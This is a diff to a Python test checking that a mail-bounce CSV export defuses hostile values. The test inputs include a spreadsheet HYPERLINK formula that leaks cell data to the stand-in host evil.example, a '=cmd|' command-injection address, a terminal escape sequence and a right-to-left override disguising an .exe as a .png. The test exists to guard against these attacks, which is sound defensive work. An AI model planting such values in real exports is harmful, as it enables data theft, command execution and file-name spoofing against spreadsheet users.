@@ -276,7 +276,8 @@ def test_csv_has_one_row_per_recipient_and_one_per_error(tmp_path, tree):
 def test_csv_quotes_and_defuses_formulas(tmp_path):
     hostile = Refusal(
         "5.1.1",
-        '=HYPERLINK("http://evil.example/?leak="&A1,"click"), "quoted", and a comma',
+        '=HYPERLINK("http://evil.example/?leak="&A1,"click"), "quoted", and a comma '
+        "\x1b]0;owned\x07 \u202egnp.exe",
         remote="@mx.example.net",
     )
     messages = [
@@ -292,8 +293,11 @@ def test_csv_quotes_and_defuses_formulas(tmp_path):
     first = dict(zip(rows[0], rows[1], strict=True))
     assert first["address"] == "'=cmd|' /C calc'!A0@example.net"
     assert first["remote_server"] == "'@mx.example.net"
-    assert first["diagnostic"].startswith("550 5.1.1") or first["diagnostic"].startswith("'=")
+    assert first["diagnostic"].startswith("'=HYPERLINK(\"http://evil.example/")
     assert '"quoted", and a comma' in first["diagnostic"]
+    assert "\\x1b]0;owned\\x07 \\u202egnp.exe" in first["diagnostic"]  # shown, inert
+    assert "\x1b" not in raw and "\u202e" not in raw
+    assert len(raw.splitlines()) == len(rows) == 4  # one line per recipient
     assert [row[4] for row in rows[2:]] == ["'+pat@example.com", "'-jo@example.com"]
 
 
